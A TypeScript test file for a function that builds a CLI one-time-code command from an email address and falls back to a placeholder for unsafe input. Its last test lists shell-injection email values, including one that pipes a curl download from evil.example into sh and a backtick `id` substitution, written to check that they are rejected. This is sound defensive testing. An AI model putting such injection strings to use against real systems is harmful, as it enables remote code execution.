import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { commandForCode } from './code-command.ts'

describe('the command for a one-time code', () => {
  it('names the address', () => {
    for (const email of [
      'mia@blue-wren.example',
      'mia.rose+shop_1@mail.blue-wren.co.nz',
      'mia@xn--bcher-kva.example',
    ])
      assert.equal(commandForCode('fettle', 'confirm', email), `fettle code confirm ${email}`)
  })

  it('has an example in place of one that is not known', () => {
    assert.equal(
      commandForCode('npm run -s fettle --', 'reset', null),
      'npm run -s fettle -- code reset you@example.com',
    )
  })

  it('has nothing in it that a shell would run, end or take for an option', () => {
    const addresses = [
      "o'brien@blue-wren.example",
      'x|curl${IFS}evil.example/x|sh@evil.example',
      '`id`@evil.example',
    ]
    const others = [
      'a&b@evil.example',
      '$HOME@evil.example',
      '-x@evil.example',
      'a!b@evil.example',
      'a{b,c}@evil.example',
    ]
    for (const email of [...addresses, ...others])
      assert.equal(commandForCode('fettle', 'confirm', email), 'fettle code confirm you@example.com', email)
  })
})
